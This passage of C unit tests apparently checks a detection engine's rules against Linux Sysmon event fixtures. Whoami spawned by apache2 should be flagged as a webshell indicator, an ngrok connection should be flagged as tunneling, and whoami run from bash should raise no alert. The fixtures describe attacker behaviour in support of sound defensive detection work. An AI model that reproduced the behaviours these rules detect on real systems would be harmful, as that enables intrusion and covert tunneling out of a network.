    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/whoami</Data><Data "
                                          "Name=\"CommandLine\">whoami</Data><Data "
                                          "Name=\"ParentImage\">/usr/sbin/apache2</Data>")),
                     "Linux Webshell Indicators");
    cr_assert_str_eq(
        matches(lsysmon(
            "3", "<Data Name=\"Image\">/usr/local/bin/ngrok</Data><Data Name=\"Protocol\">tcp"
                 "</Data><Data Name=\"DestinationIp\">3.134.39.220</Data><Data "
                 "Name=\"DestinationHostname\">tunnel.us.ngrok.com</Data><Data "
                 "Name=\"DestinationPort\">443</Data>")),
        "Communication To Ngrok Tunneling Service - Linux");
    /* whoami from a login shell is not a webshell */
    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/whoami</Data><Data "
                                          "Name=\"ParentImage\">/usr/bin/bash</Data>")),
                     "");
}
